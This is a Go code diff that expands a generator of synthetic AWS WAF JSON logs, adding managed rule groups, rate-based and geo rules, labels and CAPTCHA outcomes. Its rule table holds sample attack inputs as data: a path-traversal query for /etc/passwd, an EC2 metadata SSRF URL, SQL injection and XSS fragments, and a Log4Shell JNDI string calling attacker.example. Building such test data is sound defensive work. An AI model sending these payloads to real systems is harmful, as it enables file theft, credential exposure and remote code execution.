@@ -2,9 +2,82 @@ package internal
 
 import (
 	"encoding/json"
+	"fmt"
+	"math/rand/v2"
+	"net/url"
+	"strconv"
 	"time"
+
+	"github.com/google/uuid"
+)
+
+const (
+	wafFormatVersion = 1
+
+	wafActionAllow     = "ALLOW"
+	wafActionBlock     = "BLOCK"
+	wafActionCount     = "COUNT"
+	wafActionCaptcha   = "CAPTCHA"
+	wafActionChallenge = "CHALLENGE"
+
+	wafRuleTypeRegular   = "REGULAR"
+	wafRuleTypeRateBased = "RATE_BASED"
+	wafRuleTypeManaged   = "MANAGED_RULE_GROUP"
+
+	wafDefaultAction = "Default_Action"
 )
 
+// wafManagedRule is a rule of an AWS managed rule group, along with the request traits that trigger it.
+type wafManagedRule struct {
+	id    string
+	label string
+	match *wafMatchDetail
+	query string
+	body  bool
+	agent string
+}
+
+// wafManagedRuleGroup is an AWS managed rule group and the namespace of the labels its rules add.
+type wafManagedRuleGroup struct {
+	name           string
+	labelNamespace string
+	rules          []wafManagedRule
+}
+
+// wafManagedRuleGroups lists AWS managed rule groups with a subset of their rules.
+// See - https://docs.aws.amazon.com/waf/latest/developerguide/aws-managed-rule-groups-list.html
+var wafManagedRuleGroups = []wafManagedRuleGroup{
+	{"AWSManagedRulesCommonRuleSet", "awswaf:managed:aws:core-rule-set:", []wafManagedRule{
+		{id: "NoUserAgent_HEADER", label: "NoUserAgent_Header", agent: "-"},
+		{id: "SizeRestrictions_BODY", label: "SizeRestrictions_Body", body: true},
+		{id: "GenericLFI_QUERYARGUMENTS", label: "GenericLFI_QueryArguments", query: "file=../../../../etc/passwd"},
+		{id: "EC2MetaDataSSRF_QUERYARGUMENTS", label: "EC2MetaDataSSRF_QueryArguments", query: "url=http://169.254.169.254/latest/meta-data/"},
+		{id: "CrossSiteScripting_BODY", label: "CrossSiteScripting_Body", body: true,
+			match: &wafMatchDetail{ConditionType: "XSS", Location: "BODY", MatchedData: []string{"<", "script"}}},
+	}},
+	{"AWSManagedRulesSQLiRuleSet", "awswaf:managed:aws:sql-database:", []wafManagedRule{
+		{id: "SQLi_QUERYARGUMENTS", label: "SQLi_QueryArguments", query: "id=10 AND 1=1",
+			match: &wafMatchDetail{ConditionType: "SQL_INJECTION", SensitivityLevel: "LOW", Location: "QUERY_STRING", MatchedData: []string{"10", "AND", "1"}}},
+		{id: "SQLi_BODY", label: "SQLi_Body", body: true,
+			match: &wafMatchDetail{ConditionType: "SQL_INJECTION", SensitivityLevel: "LOW", Location: "BODY", MatchedData: []string{"'", "OR", "'1'='1"}}},
+	}},
+	{"AWSManagedRulesKnownBadInputsRuleSet", "awswaf:managed:aws:known-bad-inputs:", []wafManagedRule{
+		{id: "Log4JRCE_HEADER", label: "Log4JRCE_Header", agent: "${jndi:ldap://attacker.example/a}"},
+		{id: "JavaDeserializationRCE_BODY", label: "JavaDeserializationRCE_Body", body: true},
+	}},
+	{"AWSManagedRulesAmazonIpReputationList", "awswaf:managed:aws:amazon-ip-list:", []wafManagedRule{
+		{id: "AWSManagedIPReputationList", label: "AWSManagedIPReputationList"},
+		{id: "AWSManagedReconnaissanceList", label: "AWSManagedReconnaissanceList"},
+	}},
+	{"AWSManagedRulesBotControlRuleSet", "awswaf:managed:aws:bot-control:", []wafManagedRule{
+		{id: "CategoryHttpLibrary", label: "bot:category:http_library", agent: "python-requests/2.31.0"},
+		{id: "SignalNonBrowserUserAgent", label: "signal:non_browser_user_agent", agent: "curl/8.4.0"},
+	}},
+}
+
+// wafTokenFailureReasons lists reasons a CAPTCHA or challenge token is rejected.
+var wafTokenFailureReasons = []string{"TOKEN_MISSING", "TOKEN_MISSING", "TOKEN_EXPIRED", "TOKEN_INVALID", "TOKEN_DOMAIN_MISMATCH"}
+
 // WAFGen generates AWS WAF logs in JSON format.
 type WAFGen struct {
 	wafId string
@@ -18,30 +91,7 @@ func NewWAFGen() *WAFGen {
 }
 
 func (w *WAFGen) Generate() (int64, error) {
-	customizer := wafCustomizer{
-		timeStampMillis: time.Now().UnixMilli(),
-		webACLID:        w.wafId,
-		ruleID:          randomWAFRuleId(),
-		ruleType:        randomWafRuleType(),
-		action:          randomWafAction(),
-		httpSourceName:  randomWafSourceName(),
-		httpSourceID:    randomSourceID(), // Note - This does not match with actual ID format
-		httpRequest: wafHttpRequest{
-			ClientIP:    randomIP(),
-			Country:     randomCountryCode(),
-			Headers:     randomWafHeaders(),
-			URI:         randomURIPath(),
-			Args:        randomQueryString(),
-			HTTPVersion: "HTTP/1.1",
-			HTTPMethod:  randomHTTPMethod(),
-			RequestID:   randomAZ09String(8),
-			Fragment:    randomFragment(),
-			Scheme:      randomSchema(),
-			Host:        "example.com",
-		},
-	}
-
-	logLine := buildWAFLogLine(customizer)
+	logLine := buildWAFLogLine(newWAFCustomizer(w.wafId))
 	marshaled, err := json.Marshal(logLine)
 	if err != nil {
 		return 0, err
@@ -62,17 +112,162 @@ func (w *WAFGen) GetAndReset() []byte {
 	return w.buf.getAndReset()
 }
 
+func (w *WAFGen) RecordTimestamp(record string) (time.Time, bool) {
+	return jsonTimestamp(record, "timestamp")
+}
+
 // wafCustomizer holds parameters for generating a WAF log entry.
 type wafCustomizer struct {
-	timeStampMillis int64
-	webACLID        string
-	ruleID          string
-	ruleType        string
-	action          string
-	httpSourceName  string
-	httpSourceID    string
-	httpRequest     wafHttpRequest
-	responseCode    *int
+	timeStampMillis             int64
+	webACLID                    string
+	ruleID                      string
+	ruleType                    string
+	action                      string
+	terminatingRuleMatchDetails []wafMatchDetail
+	httpSourceName              string
+	httpSourceID                string
+	ruleGroupList               []wafRuleGroup
+	rateBasedRuleList           []wafRateBasedRule
+	nonTerminatingMatchingRules []wafMatchingRule
+	requestHeadersInserted      []wafHttpHeader
+	httpRequest                 wafHttpRequest
+	responseCode                *int
+	labels                      []wafLabel
+	captchaResponse             *wafTokenResponse
+	challengeResponse           *wafTokenResponse
+	ja3Fingerprint              string
+	requestBodySize             int
+	requestBodySizeInspected    int
+}
+
+// newWAFCustomizer derives the rule evaluation details from a random terminating action.
+// COUNT is never terminating, hence it only appears on non-terminating matches.
+func newWAFCustomizer(webACLID string) wafCustomizer {
+	now := time.Now()
+	sourceName, sourceID := randomWAFSource()
+
+	c := wafCustomizer{
+		timeStampMillis:             now.UnixMilli(),
+		webACLID:                    webACLID,
+		ruleID:                      wafDefaultAction,
+		ruleType:                    wafRuleTypeRegular,
+		action:                      wafActionAllow,
+		terminatingRuleMatchDetails: []wafMatchDetail{},
+		httpSourceName:              sourceName,
+		httpSourceID:                sourceID,
+		ruleGroupList:               []wafRuleGroup{},
+		rateBasedRuleList:           []wafRateBasedRule{},
+		nonTerminatingMatchingRules: []wafMatchingRule{},
+	}
+
+	// JA3 fingerprints are only available for CloudFront and Application Load Balancer sources
+	if sourceName == "CF" || sourceName == "ALB" {
+		c.ja3Fingerprint = randomHexString(32)
+	}
+
+	request := randomHTTPRequest()
+	country := randomCountryCode()
+
+	switch r := rand.IntN(100); {
+	case r < 60:
+		c.allow(&request, now)
+	case r < 80:
+		country = c.block(&request, country)
+	case r < 90:
+		c.action = wafActionCaptcha
+		c.ruleID = "CaptchaLogin"
+		request.Method, request.Path = "POST", "/login"
+		c.captchaResponse = failedTokenResponse(405, now)
+	default:
+		c.action = wafActionChallenge
+		c.ruleID = "ChallengeAPI"
+		request.Path = "/api/v1/orders"
+		c.challengeResponse = failedTokenResponse(202, now)
+	}
+
+	if request.Method == "POST" || request.Method == "PUT" || request.Method == "PATCH" {
+		c.requestBodySize = rand.IntN(64*1024) + 1
+		c.requestBodySizeInspected = min(c.requestBodySize, wafBodyInspectionLimit(sourceName))
+	}
+
+	c.httpRequest = wafHTTPRequestFor(request, country, c.requestBodySize)
+	return c
+}
+
+// allow lets the request through with the default action or an allow rule, possibly after non-terminating matches.
+func (c *wafCustomizer) allow(request *httpRequest, now time.Time) {
+	if rand.IntN(10) == 0 {
+		c.ruleID = "AllowOfficeIPs"
+	}
+
+	// managed rule group overridden to count
+	if rand.IntN(4) == 0 {
+		group, rule := randomWAFManagedRule()
+		applyManagedRule(request, rule)
+
+		c.ruleGroupList = append(c.ruleGroupList, wafRuleGroup{
+			RuleGroupID:                 "AWS#" + group.name,
+			NonTerminatingMatchingRules: []wafMatchingRule{{RuleID: rule.id, Action: wafActionCount, RuleMatchDetails: matchDetailsOf(rule)}},
+		})
+		c.labels = append(c.labels, wafLabel{Name: group.labelNamespace + rule.label})
+	}
+
+	// custom count rule inserting a request header for the origin
+	if rand.IntN(6) == 0 {
+		request.UserAgent = "curl/8.4.0"
+		c.nonTerminatingMatchingRules = append(c.nonTerminatingMatchingRules, wafMatchingRule{RuleID: "CountNonBrowserClients", Action: wafActionCount, RuleMatchDetails: []wafMatchDetail{}})
+		c.requestHeadersInserted = []wafHttpHeader{{Name: "x-amzn-waf-non-browser-client", Value: "true"}}
+	}
+
+	// a valid CAPTCHA token lets the request continue, recording when the puzzle was solved
+	if rand.IntN(10) == 0 {
+		request.Method, request.Path = "POST", "/login"
+		c.captchaResponse = &wafTokenResponse{ResponseCode: 0, SolveTimestamp: now.Add(-time.Duration(rand.IntN(300)+1) * time.Second).Unix()}
+	}
+}
+
+// block terminates the request with a managed rule group, a rate-based rule or a custom geo rule.
+// It returns the client country, which geo rules replace with a blocked one.
+func (c *wafCustomizer) block(request *httpRequest, country string) string {
+	c.action = wafActionBlock
+
+	switch r := rand.IntN(20); {
+	case r < 12:
+		group, rule := randomWAFManagedRule()
+		applyManagedRule(request, rule)
+
+		c.ruleID = "AWS-" + group.name
+		c.ruleType = wafRuleTypeManaged
+		c.terminatingRuleMatchDetails = matchDetailsOf(rule)
+		c.ruleGroupList = append(c.ruleGroupList, wafRuleGroup{
+			RuleGroupID:                 "AWS#" + group.name,
+			TerminatingRule:             &wafMatchingRule{RuleID: rule.id, Action: wafActionBlock},
+			NonTerminatingMatchingRules: []wafMatchingRule{},
+		})
+		c.labels = append(c.labels, wafLabel{Name: group.labelNamespace + rule.label})
+	case r < 17:
+		c.ruleID = "RateBasedRule"
+		c.ruleType = wafRuleTypeRateBased
+		c.rateBasedRuleList = append(c.rateBasedRuleList, wafRateBasedRule{
+			RateBasedRuleID:     uuid.NewString(),
+			RateBasedRuleName:   c.ruleID,
+			LimitKey:            "IP",
+			MaxRateAllowed:      []int{100, 500, 1000}[rand.IntN(3)],
+			EvaluationWindowSec: strconv.Itoa([]int{60, 120, 300}[rand.IntN(3)]),
+		})
+
+		// custom response for throttled clients
+		if rand.IntN(2) == 0 {
+			code := 429
+			c.responseCode = &code
+		}
+	default:
+		c.ruleID = "BlockSanctionedCountries"
+		country = []string{"KP", "IR", "SY"}[rand.IntN(3)]
+		c.labels = append(c.labels, wafLabel{Name: fmt.Sprintf("awswaf:clientip:geo:country:%s", country)})
+	}
+
+	return country
 }
 
 // wafHttpRequest contains HTTP request details captured by WAF.
@@ -96,30 +291,200 @@ type wafHttpHeader struct {
 	Value string `json:"value"`
 }
 
+// wafMatchDetail describes the request content matched by SQL injection and cross-site scripting rules.
+type wafMatchDetail struct {
+	ConditionType    string   `json:"conditionType"`
+	SensitivityLevel string   `json:"sensitivityLevel,omitempty"`
+	Location         string   `json:"location"`
+	MatchedData      []string `json:"matchedData"`
+}
+
+// wafMatchingRule is a rule matched within the web ACL or a rule group.
+type wafMatchingRule struct {
+	RuleID           string           `json:"ruleId"`
+	Action           string           `json:"action"`
+	RuleMatchDetails []wafMatchDetail `json:"ruleMatchDetails"`
+}
+
+// wafRuleGroup records the evaluation of a rule group. TerminatingRule is null unless a group rule terminated the request.
+type wafRuleGroup struct {
+	RuleGroupID                 string            `json:"ruleGroupId"`
+	TerminatingRule             *wafMatchingRule  `json:"terminatingRule"`
+	NonTerminatingMatchingRules []wafMatchingRule `json:"nonTerminatingMatchingRules"`
+	ExcludedRules               []wafMatchingRule `json:"excludedRules"`
+}
+
+// wafRateBasedRule records the rate-based rule that limited the request.
+type wafRateBasedRule struct {
+	RateBasedRuleID     string `json:"rateBasedRuleId"`
+	RateBasedRuleName   string `json:"rateBasedRuleName"`
+	LimitKey            string `json:"limitKey"`
+	MaxRateAllowed      int    `json:"maxRateAllowed"`
+	EvaluationWindowSec string `json:"evaluationWindowSec,omitempty"`
+}
+
+// wafLabel is a label added to the request by a matching rule.
+type wafLabel struct {
+	Name string `json:"name"`
+}
+
+// wafTokenResponse is the outcome of a CAPTCHA or challenge evaluation.
+// A zero ResponseCode marks a valid token.
+type wafTokenResponse struct {
+	ResponseCode   int    `json:"responseCode"`
+	SolveTimestamp int64  `json:"solveTimestamp,omitempty"`
+	FailureReason  string `json:"failureReason,omitempty"`
+}
+
 // wafLog represents the complete WAF log structure.
 // Credits: https://github.com/open-telemetry/opentelemetry-collector-contrib/blob/main/extension/encoding/awslogsencodingextension/internal/unmarshaler/waf/unmarshaler.go
 type wafLog struct {
-	Timestamp           int64          `json:"timestamp"`
-	WebACLID            string         `json:"webaclId"`
-	TerminatingRuleID   string         `json:"terminatingRuleId"`
-	TerminatingRuleType string         `json:"terminatingRuleType"`
-	Action              string         `json:"action"`
-	HTTPSourceName      string         `json:"httpSourceName"`
-	HTTPSourceID        string         `json:"httpSourceId"`
-	ResponseCodeSent    *int           `json:"responseCodeSent"`
-	HTTPRequest         wafHttpRequest `json:"httpRequest"`
+	Timestamp                     int64              `json:"timestamp"`
+	FormatVersion                 int                `json:"formatVersion"`
+	WebACLID                      string             `json:"webaclId"`
+	TerminatingRuleID             string             `json:"terminatingRuleId"`
+	TerminatingRuleType           string             `json:"terminatingRuleType"`
+	Action                        string             `json:"action"`
+	TerminatingRuleMatchDetails   []wafMatchDetail   `json:"terminatingRuleMatchDetails"`
+	HTTPSourceName                string             `json:"httpSourceName"`
+	HTTPSourceID                  string             `json:"httpSourceId"`
+	RuleGroupList                 []wafRuleGroup     `json:"ruleGroupList"`
+	RateBasedRuleList             []wafRateBasedRule `json:"rateBasedRuleList"`
+	NonTerminatingMatchingRules   []wafMatchingRule  `json:"nonTerminatingMatchingRules"`
+	RequestHeadersInserted        []wafHttpHeader    `json:"requestHeadersInserted"`
+	ResponseCodeSent              *int               `json:"responseCodeSent"`
+	HTTPRequest                   wafHttpRequest     `json:"httpRequest"`
+	Labels                        []wafLabel         `json:"labels,omitempty"`
+	CaptchaResponse               *wafTokenResponse  `json:"captchaResponse,omitempty"`
+	ChallengeResponse             *wafTokenResponse  `json:"challengeResponse,omitempty"`
+	JA3Fingerprint                string             `json:"ja3Fingerprint,omitempty"`
+	RequestBodySize               int                `json:"requestBodySize,omitempty"`
+	RequestBodySizeInspectedByWAF int                `json:"requestBodySizeInspectedByWAF,omitempty"`
 }
 
 func buildWAFLogLine(c wafCustomizer) wafLog {
 	return wafLog{
-		Timestamp:           c.timeStampMillis,
-		WebACLID:            c.webACLID,
-		TerminatingRuleID:   c.ruleID,
-		TerminatingRuleType: c.ruleType,
-		Action:              c.action,
-		HTTPSourceName:      c.httpSourceName,
-		HTTPSourceID:        c.httpSourceID,
-		HTTPRequest:         c.httpRequest,
-		ResponseCodeSent:    c.responseCode,
+		Timestamp:                     c.timeStampMillis,
+		FormatVersion:                 wafFormatVersion,
+		WebACLID:                      c.webACLID,
+		TerminatingRuleID:             c.ruleID,
+		TerminatingRuleType:           c.ruleType,
+		Action:                        c.action,
+		TerminatingRuleMatchDetails:   c.terminatingRuleMatchDetails,
+		HTTPSourceName:                c.httpSourceName,
+		HTTPSourceID:                  c.httpSourceID,
+		RuleGroupList:                 c.ruleGroupList,
+		RateBasedRuleList:             c.rateBasedRuleList,
+		NonTerminatingMatchingRules:   c.nonTerminatingMatchingRules,
+		RequestHeadersInserted:        c.requestHeadersInserted,
+		ResponseCodeSent:              c.responseCode,
+		HTTPRequest:                   c.httpRequest,
+		Labels:                        c.labels,
+		CaptchaResponse:               c.captchaResponse,
+		ChallengeResponse:             c.challengeResponse,
+		JA3Fingerprint:                c.ja3Fingerprint,
+		RequestBodySize:               c.requestBodySize,
+		RequestBodySizeInspectedByWAF: c.requestBodySizeInspected,
+	}
+}
+
+// randomWAFSource returns a protected resource type along with an ID in the format WAF logs for it.
+func randomWAFSource() (string, string) {
+	accountID := randomSampleAccountID()
+
+	switch rand.IntN(4) {
+	case 0:
+		return "CF", randomSourceID()
+	case 1:
+		return "ALB", fmt.Sprintf("%s-app/my-alb/%s", accountID, randomHexString(16))
+	case 2:
+		return "APIGW", fmt.Sprintf("%s:%s:prod", accountID, randomAZ09String(10))
+	default:
+		return "APPSYNC", fmt.Sprintf("%s:%s", accountID, randomAZ09String(26))
+	}
+}
+
+// wafBodyInspectionLimit returns the default request body size inspected by WAF for the resource type.
+func wafBodyInspectionLimit(sourceName string) int {
+	if sourceName == "CF" {
+		return 16 * 1024
+	}
+
+	return 8 * 1024
+}
+
+func randomWAFManagedRule() (wafManagedRuleGroup, wafManagedRule) {
+	group := wafManagedRuleGroups[rand.IntN(len(wafManagedRuleGroups))]
+	return group, group.rules[rand.IntN(len(group.rules))]
+}
+
+// applyManagedRule alters the request so that it carries the traits the rule inspects.
+func applyManagedRule(request *httpRequest, rule wafManagedRule) {
+	if rule.query != "" {
+		request.Query = url.PathEscape(rule.query)
+	}
+
+	if rule.body {
+		request.Method = "POST"
+	}
+
+	if rule.agent != "" {
+		request.UserAgent = rule.agent
+	}
+}
+
+func matchDetailsOf(rule wafManagedRule) []wafMatchDetail {
+	if rule.match == nil {
+		return []wafMatchDetail{}
+	}
+
+	return []wafMatchDetail{*rule.match}
+}
+
+// failedTokenResponse returns a rejected CAPTCHA or challenge response.
+// Expired tokens carry the time the earlier puzzle was solved.
+func failedTokenResponse(code int, now time.Time) *wafTokenResponse {
+	response := wafTokenResponse{
+		ResponseCode:  code,
+		FailureReason: wafTokenFailureReasons[rand.IntN(len(wafTokenFailureReasons))],
+	}
+
+	if response.FailureReason == "TOKEN_EXPIRED" {
+		response.SolveTimestamp = now.Add(-time.Duration(rand.IntN(24)+1) * time.Hour).Unix()
+	}
+
+	return &response
+}
+
+func wafHTTPRequestFor(request httpRequest, country string, bodySize int) wafHttpRequest {
+	headers := []wafHttpHeader{
+		{Name: "Host", Value: request.Host},
+		{Name: "Accept", Value: "*/*"},
+	}
+
+	// a missing user agent is what the NoUserAgent rule matches
+	if request.UserAgent != "-" {
+		headers = append(headers, wafHttpHeader{Name: "User-Agent", Value: request.UserAgent})
+	}
+
+	if bodySize > 0 {
+		headers = append(headers,
+			wafHttpHeader{Name: "Content-Type", Value: "application/x-www-form-urlencoded"},
+			wafHttpHeader{Name: "Content-Length", Value: strconv.Itoa(bodySize)},
+		)
+	}
+
+	return wafHttpRequest{
+		ClientIP:    randomIP(),
+		Country:     country,
+		Headers:     headers,
+		URI:         request.Path,
+		Args:        request.Query,
+		HTTPVersion: request.Protocol,
+		HTTPMethod:  request.Method,
+		RequestID:   randomAZaz09String(20) + "=",
+		Fragment:    "",
+		Scheme:      request.Scheme,
+		Host:        request.Host,
 	}
 }